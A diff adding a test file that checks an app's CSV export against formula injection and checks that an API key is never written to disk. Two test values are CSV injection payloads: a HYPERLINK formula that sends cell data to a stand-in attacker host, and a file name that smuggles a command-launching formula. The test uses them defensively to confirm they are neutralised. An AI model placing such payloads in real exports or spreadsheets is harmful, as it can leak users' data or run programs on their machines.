@@ -1,0 +1,130 @@
+// CSV export of a real flow (hostile names, validations from the sandbox) read back with Python's csv
+// module, and the API key nowhere on disk afterwards: not in the settings file, the SQLite files, the
+// workflow state, the outbox or a CSV (the bytes are searched).
+import { createWriteStream, readdirSync, readFileSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { writableSink } from '../../../src-main/ipc/text-sink';
+import { DEMO_LEGAL_ENTITY, type Sandbox } from '../../../src-main/sandbox';
+import type { Profile } from '../../../src-preload/contract';
+import { buildPcnDossier, cleanupArchives } from '../../fixtures/archives';
+import { ctx, disposeApp, eventually, openApp, openSandbox, queue, sandboxProfile, target, unlockProduction, unwrap, type App } from './support/harness';
+import { parseCsvWithPython } from './support/python-csv';
+
+let sandbox: Sandbox;
+let app: App;
+let profile: Profile;
+const le = { uuid: DEMO_LEGAL_ENTITY.leUuid, name: DEMO_LEGAL_ENTITY.name };
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1;"x"), "quoted"; semi';
+const HOSTILE_FILE = '-2+3;cmd,"calc".i6z';
+
+beforeAll(async () => {
+  sandbox = await openSandbox({ repeatedDispatchRate: 0 });
+  app = await openApp({});
+  profile = await unlockProduction(app, await sandboxProfile(app, sandbox));
+  const s = app.composed.services;
+  const hostile = await buildPcnDossier({ legalEntity: le, dossierName: HOSTILE_NAME, fileName: HOSTILE_FILE, pcnNumber: null });
+  const normal = await buildPcnDossier({ legalEntity: le, fileName: 'normal.i6z' });
+  const ids = await queue(app, profile, [hostile, normal]);
+  unwrap(await s.submitBatch({ target: target(profile), outboxIds: ids, timing: 'now' }, ctx));
+  await app.composed.internals.idle();
+  // The same dossier again while the first is pending or accepted: the sandbox fails it as a duplicate.
+  const dup = await queue(app, profile, [normal]);
+  unwrap(await s.submitBatch({ target: target(profile), outboxIds: dup, timing: 'now' }, ctx));
+  await app.composed.internals.idle();
+  await eventually(
+    async () => {
+      const c = unwrap(await s.historyCounts({ filter: { modeKinds: ['production'] } }, ctx));
+      return c.total === 3 && c.byStatus.PENDING === 0 && app.composed.internals.ledger.listReportsDue().length === 0;
+    },
+    { step: () => s.syncNow({}, ctx) },
+  );
+});
+
+afterAll(async () => {
+  await disposeApp(app, [DEMO_LEGAL_ENTITY]);
+  await sandbox.close();
+  cleanupArchives();
+});
+
+async function exportTo(name: string, args: Parameters<App['composed']['services']['writeCsv']>[0]) {
+  const path = join(app.dataDir, name);
+  const sink = writableSink(createWriteStream(path));
+  const result = unwrap(await app.composed.services.writeCsv(args, sink, `export-${name}`));
+  return { path, bytes: readFileSync(path), rowCount: result.rowCount };
+}
+
+describe('CSV export', () => {
+  it('submissions layout, semicolon: BOM, quoting and formula neutralisation survive an independent parser', async () => {
+    const { bytes, rowCount } = await exportTo('subs.csv', {
+      filter: { profileId: profile.id, modeKinds: ['production'] },
+      sort: { column: 'submittedAt', direction: 'asc' },
+      layout: 'submissions',
+      delimiter: ';',
+    });
+    expect(rowCount).toBe(3);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const { rows } = parseCsvWithPython(bytes, ';');
+    const [header, ...data] = rows as [string[], ...string[][]];
+    const col = (name: string) => header.indexOf(name);
+    expect(data).toHaveLength(3);
+    const hostile = data.find((r) => r[col('File name')] === `'${HOSTILE_FILE}`)!;
+    expect(hostile).toBeDefined();
+    expect(hostile[col('Dossier name')]).toBe(`'${HOSTILE_NAME}`);
+    expect(hostile[col('WARN count')]).toBe('1');
+    expect(hostile[col('Validation codes')]).toBe('PCN_NUMBER_MISSING');
+    expect(hostile[col('Legal entity')]).toBe(DEMO_LEGAL_ENTITY.name);
+    expect(hostile[col('Mode')]).toBe('PRODUCTION');
+    expect(hostile[col('Dispatched to')]).toMatch(/^[A-Z]{2}(, [A-Z]{2})*$/);
+    const failed = data.filter((r) => r[col('Status')] === 'VALIDATION_FAILED');
+    expect(failed).toHaveLength(1);
+    expect(failed[0]![col('Validation codes')]).toBe('DUPLICATE');
+    for (const r of data) {
+      expect(r[col('Submission number')]).toMatch(/^[A-Z]{3}\d{6}-\d{2}$/);
+      expect(r[col('Report URL')]).toContain(sandbox.url);
+      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(app.recorded.of('exportProgress').filter((e) => e.exportId === 'export-subs.csv').at(-1)).toMatchObject({ phase: 'done', rowsWritten: 3 });
+  });
+
+  it('validations layout, comma: one row per validation, one empty row for a submission without any', async () => {
+    const { bytes, rowCount } = await exportTo('vals.csv', { filter: { modeKinds: ['production'] }, layout: 'validations', delimiter: ',' });
+    const { rows } = parseCsvWithPython(bytes, ',');
+    const [header, ...data] = rows as [string[], ...string[][]];
+    expect(rowCount).toBe(data.length);
+    const col = (name: string) => header.indexOf(name);
+    const byCode = data.map((r) => r[col('Code')]).sort();
+    expect(byCode).toEqual(['', 'DUPLICATE', 'PCN_NUMBER_MISSING']);
+    const dup = data.find((r) => r[col('Code')] === 'DUPLICATE')!;
+    expect(dup[col('Level')]).toBe('FAIL');
+    expect(dup[col('Validation #')]).toBe('1');
+    expect(dup[col('Context')]).toMatch(/duplicate of submission/);
+  });
+
+  it('suggests a dated file name', () => {
+    expect(app.composed.services.exportFileName({ filter: {}, layout: 'validations' })).toMatch(/^echa-validations-\d{4}-\d{2}-\d{2}\.csv$/);
+  });
+});
+
+describe('no API key on disk after a full flow', () => {
+  it('the key (as text and as decoded bytes) appears in no file of the data folder', async () => {
+    const needles = [Buffer.from(DEMO_LEGAL_ENTITY.apiKey, 'utf8'), Buffer.from(DEMO_LEGAL_ENTITY.apiKey, 'base64url')];
+    const files: string[] = [];
+    const walk = (dir: string) => {
+      for (const name of readdirSync(dir)) {
+        const p = join(dir, name);
+        if (statSync(p).isDirectory()) walk(p);
+        else files.push(p);
+      }
+    };
+    walk(app.dataDir);
+    const names = files.map((f) => f.slice(app.dataDir.length + 1));
+    expect(names).toEqual(expect.arrayContaining(['settings.json', 'ledger.sqlite', 'workflow-state.json', 'subs.csv', 'vals.csv']));
+    for (const f of files) {
+      const bytes = readFileSync(f);
+      for (const needle of needles) expect(bytes.includes(needle), `${f} holds the key`).toBe(false);
+    }
+    // The keychain does hold it (that is where it belongs).
+    await expect(app.composed.services.hasKey({ profileId: profile.id }, ctx)).resolves.toMatchObject({ ok: true, value: { hasKey: true } });
+  });
+});
